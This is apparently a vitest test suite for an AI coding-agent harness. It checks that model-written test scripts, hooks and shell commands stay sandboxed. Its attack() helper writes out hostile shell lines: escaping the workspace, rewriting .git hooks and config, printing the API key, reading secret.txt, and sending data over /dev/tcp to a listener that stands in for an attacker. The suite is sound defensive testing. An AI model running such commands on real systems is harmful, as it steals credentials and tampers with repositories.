// What the host runs on the model's behalf: acceptance commands and command hooks run model-written
// code, so they go through the same executor as the shell. Each attack here is what a hostile
// model would try through them: write outside the workspace, rewrite git's hooks and config, read
// the provider key from the environment or a file, reach a server. Each is asserted by its effect.

import { spawn } from "node:child_process";
import { createHash } from "node:crypto";
import { chmodSync, chownSync, existsSync } from "node:fs";
import { mkdir, mkdtemp, readdir, readFile, writeFile } from "node:fs/promises";
import { createServer, type Server } from "node:net";
import { tmpdir } from "node:os";
import { dirname, join, relative } from "node:path";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from "vitest";
import {
  BIN,
  childEnv,
  ensureBuilt,
  expectExit,
  finished,
  type JournalLine,
  jsonScript,
  jsonSummary,
  ofType,
  readJournal,
  removeTempDirs,
  sessionDir,
  tempDir,
  workspaceWith,
} from "../e2e/helpers.js";
import { outsideDir, startHarnessWith } from "./helpers.js";

beforeAll(() => ensureBuilt());
afterAll(removeTempDirs);

const SESSION = "host";
const KEY = "sk-test-4f9c1e7a2b8d3f60";
const GIT_CONFIG = "[core]\n\trepositoryformatversion = 0\n";
const PRE_COMMIT = "#!/bin/sh\nexit 0\n";

/** A loopback server standing for an attacker's endpoint: it counts connections. */
let listener: Server;
let port = 0;
let connections = 0;
let outside: { dir: string; cleanup: () => Promise<void> };

beforeEach(async () => {
  connections = 0;
  listener = createServer((socket) => {
    connections += 1;
    socket.destroy();
  });
  await new Promise<void>((resolve) => listener.listen(0, "127.0.0.1", resolve));
  port = (listener.address() as { port: number }).port;
  outside = await outsideDir();
});

afterEach(async () => {
  await new Promise<void>((resolve) => listener.close(() => resolve()));
  await outside.cleanup();
});

/**
 * Every attack at once; each step's failure is ignored so that the next one still runs, and the
 * script exits 0 so that a check "passes" whatever was refused: the effects are what count.
 */
function attack(label: string): string {
  return [
    `echo ${label} > ${join(outside.dir, "marker")} 2>/dev/null`,
    `echo '[alias] st = !touch ${join(outside.dir, "git-alias")}' >> .git/config 2>/dev/null`,
    `echo 'touch ${join(outside.dir, "hook-ran")}' > .git/hooks/pre-commit 2>/dev/null`,
    `echo ${label} > ${label}-wrote-here.txt 2>/dev/null`,
    `printf 'env-key=%s\\n' "$OPENAI_API_KEY"`,
    "cat secret.txt",
    `bash -c 'echo stolen > /dev/tcp/127.0.0.1/${port}' 2>/dev/null`,
    "exit 0",
    "",
  ].join("\n");
}

async function victim(): Promise<string> {
  const workspace = await workspaceWith({
    ".git/config": GIT_CONFIG,
    ".git/hooks/pre-commit": PRE_COMMIT,
    "secret.txt": `OPENAI_API_KEY=${KEY}\n`,
  });
  return workspace;
}

async function userConfig(value: unknown): Promise<string> {
  const dir = await tempDir("harness-config-");
  const path = join(dir, "config.json");
  await writeFile(path, JSON.stringify(value));
  return path;
}

/** Every file under `dir` (except the session journal directory) with the bytes it holds. */
async function filesUnder(dir: string, skip = ".harness"): Promise<Map<string, Buffer>> {
  const files = new Map<string, Buffer>();
  const walk = async (current: string) => {
    for (const entry of await readdir(current, { withFileTypes: true })) {
      const path = join(current, entry.name);
      if (relative(dir, path) === skip) continue;
      if (entry.isDirectory()) await walk(path);
      else files.set(relative(dir, path), await readFile(path));
    }
  };
  await walk(dir);
  return files;
}

async function treeHash(dir: string): Promise<string> {
  const hash = createHash("sha256");
  const files = await filesUnder(dir);
  for (const name of [...files.keys()].sort()) hash.update(`${name}\0`).update(files.get(name)!).update("\0");
  return hash.digest("hex");
}

/** The session's journal and artifacts, and what harness printed, as one text to search. */
async function everythingRecorded(workspace: string, output: { stdout: string; stderr: string }) {
  const session = await filesUnder(sessionDir(workspace, SESSION), "");
  return (
    [...session.values()].map((bytes) => bytes.toString("utf8")).join("\n") + output.stdout + output.stderr
  );
}

/** No marker outside, git's files byte-identical, no connection to the listener. */
async function expectContained(workspace: string): Promise<void> {
  expect(existsSync(join(outside.dir, "marker"))).toBe(false);
  expect(existsSync(join(outside.dir, "git-alias"))).toBe(false);
  expect(existsSync(join(outside.dir, "hook-ran"))).toBe(false);
  expect(connections).toBe(0);
  expect(await readFile(join(workspace, ".git/config"), "utf8")).toBe(GIT_CONFIG);
  expect(await readFile(join(workspace, ".git/hooks/pre-commit"), "utf8")).toBe(PRE_COMMIT);
}

/** The first check of the first acceptance.checked record. */
function firstCheck(records: JournalLine[]): Record<string, unknown> {
  const [checked] = ofType(records, "acceptance.checked");
  expect(checked).toBeDefined();
  return (checked!.data.checks as Record<string, unknown>[])[0]!;
}

async function run(workspace: string, args: string[], env: Record<string, string>) {
  const child = startHarnessWith(["run", "-w", workspace, "--session", SESSION, "--json", ...args], {
    OPENAI_API_KEY: KEY,
    ...env,
  });
  const result = await finished(child);
  return { result, records: await readJournal(workspace, SESSION) };
}

describe("acceptance commands run the model's code sandboxed", () => {
  it("a model-written test script cannot escape, touch .git, reach the network or leak the key", async () => {
    const workspace = await victim();
    const script = await jsonScript([
      {
        text: "adding a test",
        calls: [
          { id: "w", name: "write_file", arguments: { path: "evil.test.sh", content: attack("accept") } },
        ],
      },
      { text: "tests pass" },
    ]);
    const config = await userConfig({});
    const { result, records } = await run(
      workspace,
      ["--script", script, "--write", "allow", "--accept", "sh evil.test.sh", "fix it"],
      { HARNESS_CONFIG: config },
    );
    expectExit(result, 0);
    await expectContained(workspace);
    // The workspace stays writable for builds and caches.
    expect(await readFile(join(workspace, "accept-wrote-here.txt"), "utf8")).toBe("accept\n");
    const check = firstCheck(records);
    expect(check).toMatchObject({ purpose: "acceptance", sandbox_profile: "workspace-write" });
    expect(check.env_names).not.toContain("OPENAI_API_KEY");
    expect(check.env_names).toContain("PATH");
    expect(String(check.output)).toContain("env-key=\n");
    // The key reached the output through a file: it is replaced before the journal sees it.
    expect(String(check.output)).toContain("OPENAI_API_KEY=[redacted:OPENAI_API_KEY]");
    expect(await everythingRecorded(workspace, result)).not.toContain(KEY);
  });

  it("without the sandbox (the user's choice in the user config) the same script does escape", async () => {
    // The control for the test above: the attack is real, so its absence there is the sandbox's doing.
    const workspace = await victim();
    const script = await jsonScript([
      {
        text: "adding a test",
        calls: [
          { id: "w", name: "write_file", arguments: { path: "evil.test.sh", content: attack("open") } },
        ],
      },
      { text: "tests pass" },
    ]);
    const config = await userConfig({ acceptance: { sandbox: "off" } });
    const { result, records } = await run(
      workspace,
      ["--script", script, "--write", "allow", "--accept", "sh evil.test.sh", "fix it"],
      { HARNESS_CONFIG: config },
    );
    expectExit(result, 0);
    expect(existsSync(join(outside.dir, "marker"))).toBe(true);
    expect(connections).toBe(1);
    const check = firstCheck(records);
    expect(check).toMatchObject({ sandbox_profile: "none" });
    // Still: the environment is filtered and the output scrubbed.
    expect(check.env_names).not.toContain("OPENAI_API_KEY");
    expect(await everythingRecorded(workspace, result)).not.toContain(KEY);
  });

  it("a project config cannot loosen the acceptance profile, even in a trusted project", async () => {
    const workspace = await victim();
    await writeFile(
      join(workspace, "harness.config.json"),
      JSON.stringify({
        acceptance: { sandbox: "off", pass_env: ["OPENAI_API_KEY"] },
        hook_commands: { sandbox: "off" },
      }),
    );
    await writeFile(join(workspace, "evil.test.sh"), attack("project"));
    const script = await jsonScript([{ text: "done" }]);
    const config = await userConfig({ trusted_projects: [workspace] });
    const { result, records } = await run(
      workspace,
      ["--script", script, "--accept", "sh evil.test.sh", "check"],
      { HARNESS_CONFIG: config },
    );
    expectExit(result, 0);
    expect(result.stderr).toContain(`"acceptance" is ignored; only your user config`);
    expect(result.stderr).toContain(`"hook_commands" is ignored; only your user config`);
    await expectContained(workspace);
    const check = firstCheck(records);
    expect(check).toMatchObject({ sandbox_profile: "workspace-write" });
    expect(check.env_names).not.toContain("OPENAI_API_KEY");
    expect(await everythingRecorded(workspace, result)).not.toContain(KEY);
  });

  it("harness apply --accept runs the applied, model-proposed script in the same sandbox", async () => {
    const workspace = await victim();
    const script = await jsonScript([
      {
        text: "proposing a test",
        calls: [
          { id: "w", name: "write_file", arguments: { path: "evil.test.sh", content: attack("apply") } },
        ],
      },
      { text: "please review" },
    ]);
    const config = await userConfig({});
    const proposed = await run(workspace, ["--script", script, "--write", "propose", "fix it"], {
      HARNESS_CONFIG: config,
    });
    expectExit(proposed.result, 4);
    const applied = await finished(
      startHarnessWith(["apply", SESSION, "-w", workspace, "--accept", "sh evil.test.sh", "--json"], {
        HARNESS_CONFIG: config,
        OPENAI_API_KEY: KEY,
      }),
    );
    expectExit(applied, 0);
    await expectContained(workspace);
    expect(existsSync(join(workspace, "apply-wrote-here.txt"))).toBe(true);
    const check = firstCheck(await readJournal(workspace, SESSION));
    expect(check).toMatchObject({ passed: true, purpose: "acceptance", sandbox_profile: "workspace-write" });
    expect(String(check.output)).toContain("OPENAI_API_KEY=[redacted:OPENAI_API_KEY]");
    expect(await everythingRecorded(workspace, applied)).not.toContain(KEY);
  });

  it("an npm test in a package.json the model wrote is contained the same way", async () => {
    const workspace = await victim();
    const script = await jsonScript([
      {
        text: "adding tests",
        calls: [
          { id: "w1", name: "write_file", arguments: { path: "t.sh", content: attack("npm") } },
          {
            id: "w2",
            name: "write_file",
            arguments: { path: "package.json", content: JSON.stringify({ scripts: { test: "sh t.sh" } }) },
          },
        ],
      },
      { text: "done" },
    ]);
    const { result } = await run(
      workspace,
      ["--script", script, "--write", "allow", "--accept", "npm test --silent", "fix it"],
      { HARNESS_CONFIG: await userConfig({}) },
    );
    expectExit(result, 0);
    expect(jsonSummary(result)).toMatchObject({ status: "verified" });
    // npm really ran the script: its write into the (writable) workspace happened.
    expect(existsSync(join(workspace, "npm-wrote-here.txt"))).toBe(true);
    await expectContained(workspace);
    expect(await everythingRecorded(workspace, result)).not.toContain(KEY);
  });
});

describe("as an unprivileged user", () => {
  const NOBODY = 65534;
  const asRoot = process.getuid?.() === 0;

  it("a model-written acceptance script is contained the same way", async () => {
    const workspace = await victim();
    const script = await jsonScript([
      {
        text: "adding a test",
        calls: [
          {
            id: "w",
            name: "write_file",
            arguments: { path: "evil.test.sh", content: `id -u\n${attack("nobody")}` },
          },
        ],
      },
      { text: "tests pass" },
    ]);
    const config = await userConfig({});
    // The unprivileged user's own journal key, in a directory only that user can write.
    const keyDir = await mkdtemp(join(tmpdir(), "harness-key-"));
    if (asRoot) chownSync(keyDir, NOBODY, NOBODY);
    if (asRoot) {
      // The user owns the workspace and can write the outside directory: only the sandbox stops it.
      const owned = [".", ".git", ".git/hooks", ".git/config", ".git/hooks/pre-commit", "secret.txt"];
      for (const name of owned) chownSync(join(workspace, name), NOBODY, NOBODY);
      chownSync(outside.dir, NOBODY, NOBODY);
      for (const dir of [dirname(script), dirname(config), dirname(workspace)]) chmodSync(dir, 0o755);
      chmodSync(outside.dir, 0o777);
    }
    const prefix = asRoot ? ["setpriv", `--reuid=${NOBODY}`, `--regid=${NOBODY}`, "--clear-groups"] : [];
    const child = spawn(
      prefix[0] ?? process.execPath,
      [
        ...prefix.slice(1),
        ...(asRoot ? [process.execPath] : []),
        BIN,
        ...["run", "-w", workspace, "--session", SESSION, "--json", "--script", script],
        ...["--write", "allow", "--accept", "sh evil.test.sh", "fix it"],
      ],
      {
        env: {
          ...childEnv(),
          HOME: dirname(config),
          HARNESS_CONFIG: config,
          HARNESS_KEY_FILE: join(keyDir, "journal.key"),
          OPENAI_API_KEY: KEY,
        },
        stdio: ["ignore", "pipe", "pipe"],
      },
    );
    const result = await finished(child);
    expectExit(result, 0);
    await expectContained(workspace);
    const check = firstCheck(await readJournal(workspace, SESSION));
    expect(String(check.output)).toMatch(new RegExp(`^${asRoot ? NOBODY : process.getuid?.()}\n`));
    expect(check).toMatchObject({ sandbox_profile: "workspace-write" });
    expect(await everythingRecorded(workspace, result)).not.toContain(KEY);
  });
});

describe("command hooks run sandboxed", () => {
  it("a hook running a model-written script is read-only by default, without network or the key", async () => {
    const workspace = await victim();
    const config = await userConfig({
      hooks: { after_execute: [{ kind: "notify", command: "test -f hook.sh && sh hook.sh" }] },
    });
    const script = await jsonScript([
      {
        text: "writing",
        calls: [{ id: "w", name: "write_file", arguments: { path: "hook.sh", content: attack("hook") } }],
      },
      { text: "reading", calls: [{ id: "r", name: "read_file", arguments: { path: "hook.sh" } }] },
      { text: "done" },
    ]);
    const { result, records } = await run(workspace, ["--script", script, "--write", "allow", "go"], {
      HARNESS_CONFIG: config,
    });
    expectExit(result, 0);
    await expectContained(workspace);
    expect(existsSync(join(workspace, "hook-wrote-here.txt"))).toBe(false);
    const hookSpawns = ofType(records, "process.spawned").filter((r) => r.data.purpose === "hook");
    expect(hookSpawns.length).toBeGreaterThanOrEqual(2);
    for (const spawn of hookSpawns) {
      expect(spawn.data).toMatchObject({ sandboxed: true, sandbox_profile: "read-only" });
      expect(spawn.data.env_names).not.toContain("OPENAI_API_KEY");
    }
    expect(ofType(records, "hook.decided").map((r) => r.data.decision)).toContain("observed");
    expect(await everythingRecorded(workspace, result)).not.toContain(KEY);
  });

  it("the user config may give hooks more access; then the same hook does reach out (the control)", async () => {
    const workspace = await victim();
    const config = await userConfig({
      hooks: { after_execute: [{ kind: "notify", command: "test -f hook.sh && sh hook.sh" }] },
      hook_commands: { sandbox: "off" },
    });
    const script = await jsonScript([
      {
        text: "writing",
        calls: [{ id: "w", name: "write_file", arguments: { path: "hook.sh", content: attack("hook") } }],
      },
      { text: "done" },
    ]);
    const { result, records } = await run(workspace, ["--script", script, "--write", "allow", "go"], {
      HARNESS_CONFIG: config,
    });
    expectExit(result, 0);
    expect(existsSync(join(outside.dir, "marker"))).toBe(true);
    expect(existsSync(join(workspace, "hook-wrote-here.txt"))).toBe(true);
    expect(connections).toBe(1);
    const [spawn] = ofType(records, "process.spawned").filter((r) => r.data.purpose === "hook");
    expect(spawn?.data).toMatchObject({ sandboxed: false, sandbox_profile: "none" });
    expect(await everythingRecorded(workspace, result)).not.toContain(KEY);
  });
});

describe("modes bind the shell", () => {
  async function shellRun(flags: string[], calls: unknown[]) {
    const workspace = await victim();
    await mkdir(join(workspace, "src"));
    await writeFile(join(workspace, "src/a.txt"), "original\n");
    const before = await treeHash(workspace);
    const script = await jsonScript([{ text: "working", calls }, { text: "done" }]);
    const { result, records } = await run(
      workspace,
      ["--script", script, "--shell", "allow", ...flags, "go"],
      {
        HARNESS_CONFIG: await userConfig({}),
      },
    );
    return { workspace, before, after: await treeHash(workspace), result, records };
  }
  const touch = { id: "sh", name: "shell", arguments: { command: "touch x; echo changed > src/a.txt" } };

  it("--read-only: the shell runs read-only, nothing changes, the status is unverified with no change", async () => {
    const { before, after, result, records } = await shellRun(["--read-only"], [touch]);
    expectExit(result, 0);
    expect(after).toBe(before);
    expect(ofType(records, "tool.result")[0]?.data).toMatchObject({ error_type: "SANDBOX_VIOLATION" });
    expect(ofType(records, "process.spawned")[0]?.data).toMatchObject({
      purpose: "shell",
      sandbox_profile: "read-only",
    });
    expect(jsonSummary(result)).toMatchObject({ status: "unverified" });
  });

  it("--read-only with --sandbox off: the shell is refused with the reason, nothing runs", async () => {
    const { before, after, result, records } = await shellRun(["--read-only", "--sandbox", "off"], [touch]);
    // Its only change was refused: the run stops rather than ending unverified.
    expectExit(result, 2);
    expect(jsonSummary(result)).toMatchObject({ status: "stopped", reason: "changes_denied" });
    expect(after).toBe(before);
    const [shellResult] = ofType(records, "tool.result");
    expect(shellResult?.data).toMatchObject({ status: "denied", error_type: "POLICY_DENIED" });
    expect(String(shellResult?.data.content)).toContain("the sandbox is off");
    expect(ofType(records, "process.spawned")).toHaveLength(0);
  });

  it("--write propose: the shell cannot change files; a proposed write leaves the run needing review", async () => {
    const { before, after, result, records } = await shellRun(
      ["--write", "propose"],
      [touch, { id: "w", name: "write_file", arguments: { path: "new.txt", content: "proposed\n" } }],
    );
    expect(after).toBe(before);
    expect(ofType(records, "tool.result")[0]?.data).toMatchObject({ error_type: "SANDBOX_VIOLATION" });
    expect(ofType(records, "proposal.recorded")).toHaveLength(1);
    expectExit(result, 4);
    expect(jsonSummary(result)).toMatchObject({ status: "needs_review" });
  });

  it("--write propose with acceptance: the checks run read-only too", async () => {
    const workspace = await victim();
    const before = await treeHash(workspace);
    const script = await jsonScript([{ text: "done" }]);
    const { result, records } = await run(
      workspace,
      ["--script", script, "--write", "propose", "--accept", "touch built.txt", "go"],
      { HARNESS_CONFIG: await userConfig({}) },
    );
    expect(await treeHash(workspace)).toBe(before);
    expectExit(result, 2);
    const check = firstCheck(records);
    expect(check).toMatchObject({ passed: false, sandbox_profile: "read-only" });
  });

  it("a resume cannot loosen the sandbox it was started with", async () => {
    const workspace = await victim();
    const script = await jsonScript([{ text: "done" }]);
    const config = await userConfig({});
    const first = await run(workspace, ["--script", script, "--sandbox", "read-only", "go"], {
      HARNESS_CONFIG: config,
    });
    expectExit(first.result, 0);
    const resumed = await finished(
      startHarnessWith(["resume", SESSION, "-w", workspace, "--script", script, "--sandbox", "off"], {
        HARNESS_CONFIG: config,
      }),
    );
    expectExit(resumed, 64);
    expect(resumed.stderr).toContain("--sandbox off would give this resumed session's commands more access");
  });
});

describe("secret scrubbing", () => {
  it("a key read from a file by a shell command is replaced in the result, the artifacts and the journal", async () => {
    const workspace = await victim();
    const script = await jsonScript([
      {
        text: "looking",
        calls: [{ id: "sh", name: "shell", arguments: { command: "cat secret.txt; seq 1 3000" } }],
      },
      { text: "done" },
    ]);
    const { result, records } = await run(workspace, ["--script", script, "--shell", "allow", "go"], {
      HARNESS_CONFIG: await userConfig({}),
    });
    expectExit(result, 0);
    const [shellResult] = ofType(records, "tool.result");
    expect(String(shellResult?.data.content)).toContain("OPENAI_API_KEY=[redacted:OPENAI_API_KEY]");
    const artifacts = await filesUnder(join(sessionDir(workspace, SESSION), "artifacts"), "");
    const stored = [...artifacts.values()].map((bytes) => bytes.toString("utf8")).join("\n");
    expect(stored).toContain("OPENAI_API_KEY=[redacted:OPENAI_API_KEY]");
    expect(await everythingRecorded(workspace, result)).not.toContain(KEY);
  });
});
